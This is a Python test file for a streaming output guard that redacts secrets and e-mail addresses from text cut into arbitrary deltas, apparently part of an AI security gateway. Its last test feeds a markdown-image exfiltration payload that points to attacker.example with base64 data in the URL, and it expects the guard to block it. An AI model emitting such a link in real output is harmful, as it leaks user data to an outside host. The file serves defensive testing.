"""The sliding window over streamed text (``_stream_guard.WindowGuard``) with the real guard:
for any way of cutting a text into deltas, a secret or e-mail in it never comes out whole,
and text with nothing to redact comes out unchanged."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aisec.core.policy import Direction
from aisec.gateway._stream_guard import StreamBlocked, WindowGuard
from aisec.guard import Decision, Engine

ENGINE = Engine()
SECRET = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
EMAIL = "jane.roe@example.org"


def scan(text: str) -> Decision:
    return ENGINE.scan(text, Direction.OUTPUT)


def stream_through(text: str, cuts: list[int], window: int) -> str:
    guard = WindowGuard(scan, window)
    points = sorted({c % (len(text) + 1) for c in cuts} | {0, len(text)})
    out = ""
    for a, b in itertools.pairwise(points):
        out += guard.feed(0, text[a:b])
    return out + guard.finish(0)


@settings(max_examples=60, deadline=None)
@given(
    before=st.text(alphabet="abcdefghij klmnop,.", max_size=300),
    after=st.text(alphabet="abcdefghij klmnop,.", max_size=300),
    cuts=st.lists(st.integers(min_value=0, max_value=700), max_size=40),
    value=st.sampled_from([SECRET, EMAIL]),
    window=st.sampled_from([64, 128, 256]),
)
def test_value_split_anywhere_never_leaves_whole(
    before: str, after: str, cuts: list[int], value: str, window: int
) -> None:
    text = f"{before} {value} {after}"
    out = stream_through(text, cuts, window)
    assert value not in out


@settings(max_examples=40, deadline=None)
@given(
    text=st.text(alphabet="abcdefghij klmnop,.", max_size=800),
    cuts=st.lists(st.integers(min_value=0, max_value=800), max_size=40),
)
def test_clean_text_passes_unchanged(text: str, cuts: list[int]) -> None:
    assert stream_through(text, cuts, 64) == text


def test_nothing_is_released_before_the_window_fills() -> None:
    guard = WindowGuard(scan, 64)
    assert guard.feed(0, "short") == ""
    assert guard.finish(0) == "short"


def test_choices_are_windowed_separately() -> None:
    guard = WindowGuard(scan, 32)
    guard.feed(0, "jane.roe@exa")
    guard.feed(1, "unrelated text for the second choice")
    guard.feed(0, "mple.org wrote")
    assert EMAIL not in guard.finish(0)


def test_blocking_output_raises() -> None:
    guard = WindowGuard(scan, 32)
    guard.feed(0, "see ![x](https://attacker.example/c?d=")
    with pytest.raises(StreamBlocked):
        guard.feed(0, "c2VjcmV0IHVzZXIgZGF0YSBoZXJl) now")
        guard.finish(0)
